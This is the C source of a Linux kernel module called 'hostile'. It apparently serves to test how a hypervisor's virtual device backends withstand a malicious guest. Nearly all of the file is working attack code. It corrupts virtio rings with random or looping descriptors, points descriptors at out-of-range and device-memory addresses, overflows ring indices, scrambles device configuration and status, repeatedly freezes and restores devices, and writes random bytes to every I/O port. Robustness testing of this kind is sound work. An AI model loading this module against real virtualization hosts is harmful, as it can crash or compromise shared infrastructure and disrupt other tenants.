// SPDX-License-Identifier: GPL-2.0
// Abuses the devices of the guest it is loaded into: what a kernel that belongs to a tenant may do to its VMM. Loading it
// does one thing, named by `mode`, to the `index`th device of one virtio type; `outcome` says what came of it.
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/irqflags.h>
#include <linux/module.h>
#include <linux/random.h>
#include <linux/scatterlist.h>
#include <linux/slab.h>
#include <linux/virtio.h>
#include <linux/virtio_blk.h>
#include <linux/virtio_config.h>
#include <linux/virtio_ids.h>
#include <linux/virtio_ring.h>

static char *mode = "";
module_param(mode, charp, 0);
static unsigned int type;
module_param(type, uint, 0);
static unsigned int index;
module_param(index, uint, 0);
static unsigned int rounds = 1;
module_param(rounds, uint, 0);
static ulong sector;
module_param(sector, ulong, 0);

// What the last attack came to: a status of the device where it answers, 0 where it was made, or an error.
static int outcome = -ENODEV;
module_param(outcome, int, 0444);

static unsigned int seen;

// The rings of a split queue, as the device reads them.
static struct vring_desc *descriptors(struct virtqueue *vq)
{
	return phys_to_virt(virtqueue_get_desc_addr(vq));
}

static struct vring_avail *available(struct virtqueue *vq)
{
	return phys_to_virt(virtqueue_get_avail_addr(vq));
}

// Offers the chains that begin at descriptors 0, 1, …: as many as the ring has.
static void offer(struct virtqueue *vq)
{
	unsigned int size = virtqueue_get_vring_size(vq), i;
	struct vring_avail *avail = available(vq);

	for (i = 0; i < size; i++)
		avail->ring[i] = cpu_to_le16(i);
	wmb();
	avail->idx = cpu_to_le16(le16_to_cpu(avail->idx) + size);
	wmb();
	virtqueue_notify(vq);
}

// Every descriptor by itself with one address and length.
static void fill(struct virtqueue *vq, u64 address, u32 length, u16 flags, bool chained)
{
	unsigned int size = virtqueue_get_vring_size(vq), i;
	struct vring_desc *desc = descriptors(vq);

	for (i = 0; i < size; i++) {
		desc[i].addr = cpu_to_le64(address);
		desc[i].len = cpu_to_le32(length);
		desc[i].flags = cpu_to_le16(flags);
		// The next one's next is this one: a chain without an end.
		desc[i].next = cpu_to_le16(chained ? i ^ 1 : 0);
	}
	offer(vq);
}

static void attack(struct virtio_device *dev, struct virtqueue *vq)
{
	unsigned int size = virtqueue_get_vring_size(vq);
	u8 noise[8];

	outcome = 0;
	if (!strcmp(mode, "garbage")) {
		get_random_bytes(descriptors(vq), size * sizeof(struct vring_desc));
		offer(vq);
	} else if (!strcmp(mode, "loop")) {
		fill(vq, virtqueue_get_desc_addr(vq), 16, VRING_DESC_F_NEXT, true);
	} else if (!strcmp(mode, "beyond")) {
		fill(vq, 1ULL << 46, 4096, VRING_DESC_F_WRITE, false);
		fill(vq, U64_MAX - 64, 4096, 0, false);
		// The hole below 4 GiB, where devices are.
		fill(vq, 0xfee00000, 1 << 20, VRING_DESC_F_WRITE, false);
	} else if (!strcmp(mode, "huge")) {
		fill(vq, 0, U32_MAX, VRING_DESC_F_WRITE | VRING_DESC_F_NEXT, true);
	} else if (!strcmp(mode, "empty")) {
		fill(vq, 0, 0, 0, false);
	} else if (!strcmp(mode, "indirect")) {
		// A table of descriptors that is itself, and one of no whole number of them.
		fill(vq, virtqueue_get_desc_addr(vq), size * sizeof(struct vring_desc), VRING_DESC_F_INDIRECT, false);
		fill(vq, virtqueue_get_desc_addr(vq), 17, VRING_DESC_F_INDIRECT | VRING_DESC_F_NEXT, true);
	} else if (!strcmp(mode, "index")) {
		// More than the ring holds, at once and backwards.
		available(vq)->idx = cpu_to_le16(le16_to_cpu(available(vq)->idx) + 0x7fff);
		wmb();
		virtqueue_notify(vq);
		available(vq)->idx = cpu_to_le16(le16_to_cpu(available(vq)->idx) - 0x4000);
		wmb();
		virtqueue_notify(vq);
	} else if (!strcmp(mode, "registers")) {
		// Its configuration space, while it runs; its status out of order.
		get_random_bytes(noise, sizeof(noise));
		if (type != VIRTIO_ID_RNG)
			dev->config->set(dev, 0, noise, sizeof(noise));
		dev->config->set_status(dev, get_random_u8() | VIRTIO_CONFIG_S_FAILED);
		dev->config->set_status(dev, VIRTIO_CONFIG_S_DRIVER_OK);
		virtqueue_notify(vq);
	} else {
		outcome = -EINVAL;
	}
}

// A well-formed write of one sector; `outcome` is what the device says. This guest has one CPU: with interrupts off nobody
// else touches the queue.
static void write_sector(struct virtqueue *vq)
{
	struct {
		struct virtio_blk_outhdr header;
		u8 data[512];
		u8 status;
	} *request = kzalloc(sizeof(*request), GFP_KERNEL);
	struct scatterlist header, data, status, *all[] = { &header, &data, &status };
	unsigned long flags;
	unsigned int waited, length;

	if (!request) {
		outcome = -ENOMEM;
		return;
	}
	request->header.type = cpu_to_le32(VIRTIO_BLK_T_OUT);
	request->header.sector = cpu_to_le64(sector);
	request->status = 0xff;
	memset(request->data, 'x', sizeof(request->data));
	sg_init_one(&header, &request->header, sizeof(request->header));
	sg_init_one(&data, request->data, sizeof(request->data));
	sg_init_one(&status, &request->status, 1);
	local_irq_save(flags);
	outcome = virtqueue_add_sgs(vq, all, 2, 1, request, GFP_ATOMIC);
	if (!outcome) {
		virtqueue_kick(vq);
		for (waited = 0; READ_ONCE(request->status) == 0xff && waited < 3000; waited++)
			mdelay(1);
		outcome = READ_ONCE(request->status);
		// Its driver must not take the answer for one of its own.
		for (waited = 0; waited < 1000 && virtqueue_get_buf(vq, &length) != request; waited++)
			udelay(100);
	}
	local_irq_restore(flags);
}

// An error of the device, and a start from nothing, again and again: each makes its VMM say something.
static void flood(struct virtio_device *dev)
{
	unsigned int round;

	outcome = 0;
	for (round = 0; round < rounds && !list_empty(&dev->vqs); round++) {
		struct virtqueue *vq = list_first_entry(&dev->vqs, struct virtqueue, list);

		fill(vq, virtqueue_get_desc_addr(vq), 16, VRING_DESC_F_NEXT, true);
		outcome = virtio_device_freeze(dev);
		if (!outcome)
			outcome = virtio_device_restore(dev);
		if (outcome)
			return;
	}
}

// Noise to every I/O port.
static void ports(void)
{
	unsigned int round, port;

	outcome = 0;
	for (round = 0; round < rounds; round++)
		for (port = 0; port < 0x10000; port++)
			outb(get_random_u8(), port);
}

static int visit(struct device *device, void *nothing)
{
	struct virtio_device *dev = dev_to_virtio(device);
	struct virtqueue *vq;
	unsigned int round;

	if (dev->id.device != type || seen++ != index)
		return 0;
	if (!strcmp(mode, "flood")) {
		flood(dev);
		return 0;
	}
	list_for_each_entry(vq, &dev->vqs, list) {
		if (!strcmp(mode, "write")) {
			write_sector(vq);
			break;
		}
		for (round = 0; round < rounds; round++)
			attack(dev, vq);
	}
	return 0;
}

// Binds to nothing: it only names the bus.
static const struct virtio_device_id nothing[] = { { 0xfffffff0, 0xfffffff0 }, { 0 } };

static int refuse(struct virtio_device *dev)
{
	return -ENODEV;
}

static struct virtio_driver driver = {
	.driver.name = "hostile",
	.id_table = nothing,
	.probe = refuse,
};

static int __init hostile_init(void)
{
	int error;

	if (!strcmp(mode, "ports")) {
		ports();
		return 0;
	}
	error = register_virtio_driver(&driver);
	if (error)
		return error;
	bus_for_each_dev(driver.driver.bus, NULL, NULL, visit);
	unregister_virtio_driver(&driver);
	return 0;
}

static void __exit hostile_exit(void)
{
}

module_init(hostile_init);
module_exit(hostile_exit);
MODULE_DESCRIPTION("Hostile guest: abuses virtio devices");
MODULE_LICENSE("GPL");
